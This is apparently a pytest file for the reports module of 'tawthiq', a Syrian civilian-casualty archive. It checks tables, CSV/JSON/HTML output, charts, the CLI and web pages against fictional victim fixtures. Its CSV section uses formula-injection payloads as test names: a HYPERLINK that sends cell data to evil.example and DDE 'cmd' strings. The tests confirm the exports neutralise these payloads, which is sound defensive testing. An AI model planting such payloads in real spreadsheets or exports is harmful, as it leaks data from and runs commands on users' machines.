"""Reports (reports/): every table from an archive of known composition, unknown fields, an
empty month, the formats, the ``tawthiq report`` command and the reports page."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient
from sqlalchemy import select

from tawthiq.cli import cli
from tawthiq.db import archive, repo
from tawthiq.db.engine import session_scope
from tawthiq.db.models import User, Victim
from tawthiq.errors import ConfigError
from tawthiq.reports import build_report, render, victims_behind
from tawthiq.reports.charts import bar_chart_png, bar_chart_svg


def victim(name: str, date: str | None, governorate: str | None, perpetrator: str = "syrian_regime", cause: str = "shelling",
           sex: str | None = "male", age: int | None = 30, category: str = "civilian", locality: str | None = "Ariha",
           status: str = "active") -> Victim:
    return Victim(full_name=name, date_of_death=date, death_governorate=governorate, death_locality=locality, perpetrator=perpetrator,
                  cause=cause, sex=sex, age=age, is_child=None if age is None else age < 18, category=category, status=status,
                  created_at=dt.datetime(2024, 3, 20, tzinfo=dt.UTC))


@pytest.fixture
def composed(engine):  # type: ignore[no-untyped-def]
    """March 2024: a massacre of 5 in Ariha by the regime (2 children, 1 woman), 2 killed by
    Russian forces in Sarmin, a nurse killed by an unidentified landmine, a torture death, a
    victim with nothing known but the month; plus a merged and a retracted record (not
    counted) and a February victim (only in the year)."""
    with session_scope(engine) as session:
        rows = [victim(f"Regime Victim {i}", "2024-03-05", "Idlib", age=age, sex=sex)
                for i, (age, sex) in enumerate([(8, "male"), (12, "female"), (40, "female"), (35, "male"), (60, "male")])]
        rows += [victim("Russian One", "2024-03-11", "Idlib", "russian_forces", "airstrike", locality="Sarmin"),
                 victim("Russian Two", "2024-03-11", "Idlib", "russian_forces", "airstrike", locality="Sarmin", sex="female", age=None),
                 victim("Nurse Person", "2024-03-02", "Daraa", "unidentified", "landmine", sex="female", age=33, category="medical", locality="Tafas"),
                 victim("Detainee Person", "2024-03-09", "Damascus", "syrian_regime", "torture", locality="Sednaya"),
                 victim("Unknown Person", "2024-03", None, "unknown", "unknown", sex=None, age=None, locality=None),
                 victim("Merged Away", "2024-03-05", "Idlib", status="merged"),
                 victim("Retracted", "2024-03-05", "Idlib", status="retracted"),
                 victim("February Person", "2024-02-14", "Aleppo", "sdf", "shooting", locality="Manbij"),
                 victim("No Date Person", None, "Homs", "isis", "bombing", locality="Homs")]
        session.add_all(rows)
    return engine


def test_monthly_tables(composed) -> None:
    with session_scope(composed) as session:
        report = build_report(session, month="2024-03")
    assert report.total == {"victims": 11, "children": 2, "women": 2, "massacres": 1, "named": 11, "not_yet_named": 0}  # the undated victim was documented in March
    by_perpetrator = {r["label"]: r for r in report.by_perpetrator}
    assert by_perpetrator["Syrian regime forces"]["victims"] == 6 and by_perpetrator["Syrian regime forces"]["children"] == 2
    assert by_perpetrator["Syrian regime forces"]["percent"] == round(100 * 6 / 11, 1)
    assert by_perpetrator["Russian forces"]["victims"] == 2 and by_perpetrator["Russian forces"]["women"] == 0  # age unknown
    assert by_perpetrator["Other parties: unidentified landmines"]["victims"] == 1
    assert by_perpetrator["ISIS"]["victims"] == 1 and by_perpetrator["Unknown perpetrator"]["victims"] == 1
    assert sum(r["victims"] for r in report.by_perpetrator) == 11
    by_governorate = {r["label"]: r for r in report.by_governorate}
    assert by_governorate["Idlib"]["victims"] == 7 and by_governorate["Idlib"]["percent"] == round(700 / 11, 1)
    assert by_governorate["Unknown"]["victims"] == 1 and len(report.by_governorate) == 15
    assert [(r["label"], r["victims"]) for r in report.by_month] == [("2024-03", 11)]
    assert [(r["label"], r["victims"]) for r in report.torture] == [("Syrian regime forces", 1)]
    assert [(r["category"], r["label"], r["victims"], r["women"]) for r in report.personnel] == [("medical", "Unidentified parties", 1, 1)]
    [massacre] = report.massacres
    assert (massacre["label"], massacre["date"], massacre["place"], massacre["victims"]) == ("Syrian regime forces", "2024-03-05", "Ariha, Idlib", 5)
    assert report.unknowns["date_of_death_unknown"] == 1 and report.unknowns["governorate_unknown"] == 1
    assert report.unknowns["sex_unknown"] == 1 and report.unknowns["age_unknown"] == 2


def test_yearly_report_by_month_and_empty_month(composed) -> None:
    with session_scope(composed) as session:
        year = build_report(session, year=2024)
        empty = build_report(session, month="2023-07")
    months = {r["label"]: r for r in year.by_month}
    assert len(year.by_month) == 12 and months["2024-02"]["victims"] == 1 and months["2024-03"]["victims"] == 11
    assert months["2024-02"]["percent"] == round(100 / 12, 1)
    assert empty.total == {"victims": 0, "children": 0, "women": 0, "massacres": 0, "named": 0, "not_yet_named": 0}
    assert all(r["victims"] == 0 and r["percent"] == 0.0 for r in empty.by_perpetrator)
    assert "None recorded." in render(empty, "md")


def test_bad_periods_are_clear_errors(composed) -> None:
    with session_scope(composed) as session:
        for kwargs in ({"month": "2024-13"}, {"month": "March"}, {"year": "24"}, {}, {"month": "2024-03", "year": 2024}):
            with pytest.raises(ConfigError):
                build_report(session, **kwargs)


def test_formats_carry_the_same_numbers(composed) -> None:
    with session_scope(composed) as session:
        report = build_report(session, month="2024-03")
    rows = list(csv.DictReader(io.StringIO(render(report, "csv"))))
    assert rows[0]["table"] == "total" and rows[0]["victims"] == "11"
    regime = next(r for r in rows if r["table"] == "by_perpetrator" and r["label"] == "Syrian regime forces")
    assert (regime["victims"], regime["children"]) == ("6", "2")
    data = json.loads(render(report, "json"))
    assert data["total"]["victims"] == 11 and data["massacres"][0]["victims"] == 5 and data["rules"]
    html = render(report, "html")
    assert "<svg" in html and "Counting rules" in html and "Ariha, Idlib" in html
    assert "| Syrian regime forces | 6 | 2 | 1 |" in render(report, "md")


def test_charts_series() -> None:
    svg = bar_chart_svg(["Syrian regime forces", "Russian forces"], [6, 2], "by perpetrator")
    assert svg.startswith("<svg") and "by perpetrator" in svg
    assert bar_chart_png(["a"], [1], "t").startswith(b"\x89PNG")


def test_victims_behind_a_figure_have_sources_and_no_submitter_details(engine, tmp_path) -> None:
    from tests.test_review import load_queue

    load_queue(engine, tmp_path)
    with session_scope(engine) as session:
        amal = session.scalar(select(User).where(User.username == "amal"))
        while (task := archive.claim_next(session, amal)) is not None:
            archive.decide(session, task, amal, "new_victim")
    with session_scope(engine) as session:
        rows = victims_behind(session, month="2024-03")
        assert rows and all(row["sources"].startswith("demo") for row in rows)
        assert "Umm Khaled" not in json.dumps(rows, ensure_ascii=False) and "944 000 111" not in json.dumps(rows)
        idlib = victims_behind(session, month="2024-03", governorate="Idlib")
        assert idlib and all(r["governorate"] == "Idlib" for r in idlib)


def test_report_command(composed, database_url, tmp_path) -> None:
    runner = CliRunner()
    result = runner.invoke(cli, ["report", "--month", "2024-03", "--format", "json"])
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)["total"]["victims"] == 11
    out = tmp_path / "out"
    result = runner.invoke(cli, ["report", "--year", "2024", "--format", "csv", "--out", str(out), "--victims"])
    assert result.exit_code == 0, result.output
    names = {p.name for p in out.iterdir()}
    assert {"report-2024.csv", "report-2024-by_perpetrator.csv", "report-2024-by_month.png", "report-2024-by_governorate.svg",
            "report-2024-victims.csv"} <= names
    assert "Regime Victim 0" in (out / "report-2024-victims.csv").read_text()
    assert runner.invoke(cli, ["report", "--month", "2024-13"]).exit_code != 0


def test_reports_page(composed, database_url) -> None:
    from tawthiq.review.app import create_app
    from tests.test_review import PASSWORD, login

    with session_scope(composed) as session:
        repo.add_user(session, "amal", PASSWORD, "documenter")
    client = login(create_app(database_url), "amal")
    page = client.get("/reports", params={"month": "2024-03"})
    assert page.status_code == 200 and "<svg" in page.text and 'id="summary"' in page.text and "11 civilians killed" in page.text
    export = client.get("/reports/export", params={"month": "2024-03", "format": "csv"})
    assert export.status_code == 200 and export.headers["content-type"].startswith("text/csv")
    assert "attachment" in export.headers["content-disposition"]
    listing = client.get("/reports/victims", params={"month": "2024-03", "perpetrator": "russian_forces"})
    assert listing.text.count("Russian") == 2
    bad = client.get("/reports", params={"month": "2024-13"})
    assert bad.status_code == 400 and "YYYY-MM" in bad.text
    assert TestClient(client.app).get("/reports", follow_redirects=False).status_code == 303  # login needed

    client.cookies.set("tawthiq_lang", "ar")
    arabic = client.get("/reports", params={"month": "2024-03"})
    assert "قُتل 11 مدنياً" in arabic.text and "المدنيون الذين قُتلوا حسب الجهة الفاعلة" in arabic.text
    assert "القوات الروسية" in arabic.text and "Russian forces" not in arabic.text  # row labels in Arabic
    assert "قواعد الإحصاء" in arabic.text and "لا يُحتسب إلا الضحايا في الأرشيف" in arabic.text


# --- CSV for spreadsheets: no cell runs as a formula ------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1)", "+1+cmd|' /C calc'!A0", "-2+3",
                 "\tTab Person", "\rReturn Person"]
ARABIC = "مصطفى محمد عجاج"
HOSTILE_PLACE = "=cmd|' /C calc'!A0"


@pytest.fixture
def hostile(engine):  # type: ignore[no-untyped-def]
    """May 2024: six victims named like formulas, killed the same day in a place named like
    one (a massacre, so the place reaches the report's tables), and one named in Arabic."""
    with session_scope(engine) as session:
        rows = [victim(name, "2024-05-04", "Hama", locality=HOSTILE_PLACE) for name in HOSTILE_NAMES]
        arabic = victim("Mustafa Muhammad Ajaj", "2024-05-09", "Idlib", locality="معرة النعمان")
        arabic.name_ar = ARABIC
        session.add_all(rows + [arabic])
    return engine


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_formula(text: str, where: str) -> None:
    rows = cells(text)
    for row in rows:
        assert len(row) == len(rows[0]), f"{where}: a row broken in two: {row!r}"
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), f"{where}: {cell!r} would run as a formula"


def test_every_csv_writer_neutralises_formula_cells(hostile, tmp_path) -> None:
    from tawthiq.reports import render_victims_csv, write_report

    with session_scope(hostile) as session:
        report = build_report(session, month="2024-05")
        rows = victims_behind(session, month="2024-05")
    assert report.massacres and report.massacres[0]["place"].startswith("=cmd")  # the tables do carry it

    combined = render(report, "csv")
    assert_no_formula(combined, "render_csv")
    massacre = next(r for r in cells(combined) if r[0] == "massacres")
    assert massacre[4] == "'" + HOSTILE_PLACE + ", Hama" and massacre[5] == "6"  # the count stays a plain number

    listing = cells(render_victims_csv(rows))
    assert_no_formula(render_victims_csv(rows), "render_victims_csv")
    names = {row[1] for row in listing[1:]}
    assert {"'" + name.replace("\r", "\n") for name in HOSTILE_NAMES} <= names  # a carriage return is written \n
    arabic = next(row for row in listing[1:] if row[1] == "Mustafa Muhammad Ajaj")
    assert arabic[2] == ARABIC and arabic[9] == "معرة النعمان" and arabic[4] == "30"

    written = write_report(report, "csv", tmp_path / "out", rows)
    csv_files = [p for p in written if p.suffix == ".csv"]
    assert len(csv_files) == 1 + len(TABLE_NAMES) + 1  # the report, one per table, the victim list
    for path in csv_files:
        assert_no_formula(path.read_bytes().decode("utf-8"), path.name)
    table = cells((tmp_path / "out" / "report-2024-05-massacres.csv").read_bytes().decode("utf-8"))
    assert table[1][table[0].index("place")] == "'" + HOSTILE_PLACE + ", Hama"
    victims_file = (tmp_path / "out" / "report-2024-05-victims.csv").read_bytes().decode("utf-8")
    assert "'@SUM(1)" in victims_file and ARABIC in victims_file and "'" + ARABIC not in victims_file


TABLE_NAMES = ("by_perpetrator", "by_governorate", "by_month", "torture", "personnel", "massacres", "incidents")


def test_report_downloads_neutralise_formula_cells(hostile, database_url) -> None:
    from tawthiq.review.app import create_app
    from tests.test_review import PASSWORD, login

    with session_scope(hostile) as session:
        repo.add_user(session, "amal", PASSWORD, "documenter")
    client = login(create_app(database_url), "amal")
    export = client.get("/reports/export", params={"month": "2024-05", "format": "csv"})
    assert export.status_code == 200
    assert_no_formula(export.text, "/reports/export")
    assert "'" + HOSTILE_PLACE in export.text
    listing = client.get("/reports/victims", params={"month": "2024-05"})
    assert listing.status_code == 200
    assert_no_formula(listing.text, "/reports/victims")
    assert "'=HYPERLINK(" in listing.text and "'@SUM(1)" in listing.text and ARABIC in listing.text
    assert "'" + ARABIC not in listing.text


def test_bad_report_parameters_are_400_with_a_message(composed, database_url) -> None:
    from tawthiq.review.app import create_app
    from tests.test_review import PASSWORD, login

    with session_scope(composed) as session:
        repo.add_user(session, "amal", PASSWORD, "documenter")
    client = login(create_app(database_url), "amal")
    cases = [
        ("/reports", {"month": "2024-13"}, "Month: “2024-13” is not a month; write it as YYYY-MM"),
        ("/reports", {"month": "March"}, "is not a month"),
        ("/reports", {"month": "0000-01"}, "outside the years reported, 1900 to 2100"),  # dt.date(0, 1, 1) was a 500
        ("/reports", {"year": "0000"}, "Year: “0000” is outside the years reported"),
        ("/reports", {"year": "9" * 30}, "is not a year"),
        ("/reports", {"month": "2024-03", "year": "2024"}, "Give either a month (YYYY-MM) or a year (YYYY)"),
        ("/reports/export", {}, "Give either a month"),
        ("/reports/export", {"month": "2024-03", "format": "exe"}, "Format: “exe” is not one of the choices (html, md, csv, json)"),
        ("/reports/victims", {"month": "2024-03", "perpetrator": "aliens"}, "Perpetrator: “aliens” is not one of the choices"),
        ("/reports/victims", {"month": "2024-03", "governorate": "Atlantis"}, "Governorate: “Atlantis” is not one of the choices"),
        ("/reports/victims", {"year": "1899"}, "outside the years reported"),
    ]
    for path, params, message in cases:
        response = client.get(path, params=params)
        assert response.status_code == 400 and message in response.text, (path, params, response.status_code, response.text[-400:])
    client.cookies.set("tawthiq_lang", "ar")
    arabic = client.get("/reports", params={"month": "2024-13"})
    assert arabic.status_code == 400 and "الشهر: «2024-13» ليس شهراً" in arabic.text and 'dir="rtl"' in arabic.text
    assert client.get("/reports", params={"month": "٢٠٢٤-٠٣"}).status_code == 200  # Arabic-Indic digits are a month


def test_bad_periods_outside_the_years_reported(composed) -> None:
    from tawthiq.reports import PeriodError

    with session_scope(composed) as session:
        for kwargs in ({"month": "0000-01"}, {"year": "0000"}, {"year": "2101"}, {"month": "1899-12"}):
            with pytest.raises(PeriodError):
                build_report(session, **kwargs)


def test_arabic_chart_labels_are_joined_and_in_visual_order() -> None:
    from tawthiq.reports.charts import bar_chart_png, shaped

    text = shaped("قوات النظام")
    assert all("\ufe70" <= ch <= "\ufeff" or ch == " " for ch in text)  # joined (presentation) forms
    assert text.split()[0] == shaped("النظام")  # drawn left to right, the last word comes first
    assert shaped("Russian forces") == "Russian forces"
    png = bar_chart_png([("القوات الروسية"), "Unknown"], [3, 1], "المدنيون الذين قُتلوا", "المدنيون")
    assert png.startswith(b"\x89PNG")
